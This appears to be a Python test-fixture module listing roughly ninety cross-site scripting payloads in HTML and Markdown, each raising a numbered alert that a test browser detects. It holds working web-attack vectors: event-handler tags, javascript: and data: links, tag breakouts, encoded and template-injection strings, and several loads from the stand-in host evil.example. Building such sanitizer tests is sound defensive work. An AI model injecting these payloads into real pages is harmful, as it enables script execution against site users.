"""
What somebody might write to make a page run something: markup, attributes, links, styles, encodings and
texts that break out of where they stand. Each calls alert or a like, which a test's browser notices.
"""

MARKUP = r'''
<script>alert(1)</script>
<SCRIPT>alert(2)</SCRIPT>
<script src=https://evil.example/3.js></script>
<script/src="data:,alert(4)"></script>
<scr<script>ipt>alert(5)</scr</script>ipt>
<img src=x onerror=alert(6)>
<img src="x" onerror="alert(7)">
<img/src/onerror=alert(8)>
<img src=x:alert(alt) onerror=eval(src) alt=9>
<IMG """><script>alert(10)</script>">
<svg onload=alert(11)>
<svg/onload=alert(12)>
<svg><script>alert(13)</script></svg>
<svg><animate onbegin=alert(14) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(15)"><text>15</text></a></svg>
<math><mtext></p><script>alert(16)</script></mtext></math>
<math href="javascript:alert(17)">17</math>
<body onload=alert(18)>
<body onpageshow=alert(19)>
<iframe src="javascript:alert(20)"></iframe>
<iframe srcdoc="<script>alert(21)</script>"></iframe>
<object data="javascript:alert(22)"></object>
<embed src="javascript:alert(23)">
<form action="javascript:alert(24)"><button>24</button></form>
<button formaction="javascript:alert(25)">25</button>
<input autofocus onfocus=alert(26)>
<select autofocus onfocus=alert(27)></select>
<textarea autofocus onfocus=alert(28)></textarea>
<details open ontoggle=alert(29)>
<video><source onerror=alert(30)></video>
<audio src onerror=alert(31)>
<marquee onstart=alert(32)>32</marquee>
<meta http-equiv="refresh" content="0;url=javascript:alert(33)">
<base href="https://evil.example/34/">
<link rel=stylesheet href="https://evil.example/35.css">
<link rel=import href="data:text/html,<script>alert(36)</script>">
<style>@import 'https://evil.example/37.css';</style>
<style>*{background:url(https://evil.example/38)}</style>
<p style="background:url(https://evil.example/39)">39</p>
<div style="width:expression(alert(40))">40</div>
<template><script>alert(41)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(42)>">
<xmp><script>alert(43)</script></xmp>
<!--><script>alert(44)</script>-->
<![CDATA[<script>alert(45)</script>]]>
<?xml version="1.0"?><script>alert(46)</script>
<a href="javascript:alert(47)">47</a>
<a href="java&#x09;script:alert(48)">48</a>
<a href="data:text/html,<script>alert(49)</script>">49</a>
<x onclick=alert(50) autofocus tabindex=1 onfocus=alert(50)>50
</title><script>alert(51)</script>
</textarea><script>alert(52)</script>
</script><script>alert(53)</script>
</style><script>alert(54)</script>
</main></body><script>alert(55)</script>
"><script>alert(56)</script>
'><script>alert(57)</script>
" autofocus onfocus="alert(58)
' autofocus onfocus='alert(59)
" onmouseover="alert(60)" x="
`onfocus=alert(61) autofocus
&lt;script&gt;alert(62)&lt;/script&gt;
&#60;script&#62;alert(63)&#60;/script&#62;
\u003cscript\u003ealert(64)\u003c/script\u003e
%3Cscript%3Ealert(65)%3C/script%3E
{{constructor.constructor('alert(66)')()}}
${alert(67)}
{% alert(68) %}
<%= alert(69) %>
javascript:alert(70)//
'''.strip().splitlines()

MARKDOWN = """
[71](javascript:alert(71))
[72](JaVaScRiPt:alert(72))
[73](java\tscript:alert(73))
[74]( javascript:alert(74))
[75](vbscript:alert(75))
[76](data:text/html;base64,PHNjcmlwdD5hbGVydCg3Nik8L3NjcmlwdD4=)
[77](&#106;avascript:alert(77))
[78](javascript&colon;alert(78))
[79](https://example.org"onmouseover="alert(79))
[80](https://example.org "x" onmouseover="alert(80)")
![81](x"onerror="alert(81))
![82](javascript:alert(82))
<javascript:alert(83)>
<https://example.org/"onmouseover="alert(84)>
`<script>alert(85)</script>`
> <script>alert(86)</script>
## <img src=x onerror=alert(87)>
**<svg onload=alert(88)>**
[<img src=x onerror=alert(89)>](https://example.org)
[90][x]
https://example.org/"onmouseover="alert(91)
@<script>alert(92)</script>
""".strip("\n").splitlines()

ALL = MARKUP + MARKDOWN
